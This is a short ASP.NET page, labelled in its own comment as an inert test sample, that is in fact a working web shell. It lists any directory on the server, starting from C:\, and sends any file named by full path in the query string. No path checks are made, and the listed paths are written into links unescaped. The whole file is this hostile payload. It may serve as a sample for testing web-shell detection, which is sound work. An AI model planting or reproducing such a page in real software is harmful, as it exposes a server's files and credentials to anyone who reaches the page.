<%-- inert test sample: lists any folder and sends any file, both named in full by the request --%>
<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string f = Request.QueryString["f"];
  if (f != null) { Response.ContentType = "application/octet-stream"; Response.WriteFile(f); Response.End(); }
  string d = Request.QueryString["d"] ?? "C:\\";
  foreach (string x in Directory.GetFileSystemEntries(d)) Response.Write("<a href='?d=" + x + "'>" + x + "</a><br>");
}
</script>
